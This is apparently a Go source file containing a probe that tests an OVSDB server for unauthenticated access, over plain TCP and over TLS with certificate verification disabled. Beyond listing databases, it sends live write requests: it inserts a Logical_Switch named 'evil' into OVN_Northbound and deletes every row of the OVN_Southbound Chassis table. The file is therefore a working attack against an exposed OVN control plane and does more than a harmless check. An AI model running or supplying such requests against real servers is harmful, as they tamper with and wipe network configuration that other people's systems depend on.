package main

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"
)

// databases tries an OVSDB server (RFC 7047) as a stranger does: without TLS, and with TLS but without a certificate.
// It prints a line for each attempt: what the server answered, or "error: " and the error. A server that can't be
// connected to is tried once.
func databases(address string) error {
	for _, request := range []string{
		`{"id":0,"method":"list_dbs","params":[]}`,
		`{"id":0,"method":"transact","params":["OVN_Northbound",` +
			`{"op":"insert","table":"Logical_Switch","row":{"name":"evil"}}]}`,
		`{"id":0,"method":"transact","params":["OVN_Southbound",{"op":"delete","table":"Chassis","where":[]}]}`,
	} {
		for _, encrypted := range []bool{false, true} {
			line, err := answerTo(request, address, encrypted)
			if err != nil {
				line = "error: " + err.Error()
			}
			fmt.Println(line)
			if dial := new(net.OpError); errors.As(err, &dial) && dial.Op == "dial" {
				return nil
			}
		}
	}
	return nil
}

// answerTo is what the server answers first, at most 4096 bytes of it.
func answerTo(request, address string, encrypted bool) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	deadline, _ := ctx.Deadline()
	if err := conn.SetDeadline(deadline); err != nil {
		return "", err
	}
	if encrypted {
		conn = tls.Client(conn, &tls.Config{InsecureSkipVerify: true})
	}
	if _, err := conn.Write([]byte(request)); err != nil {
		return "", err
	}
	answer := make([]byte, 4096)
	n, err := conn.Read(answer)
	return strings.TrimSpace(string(answer[:n])), err
}
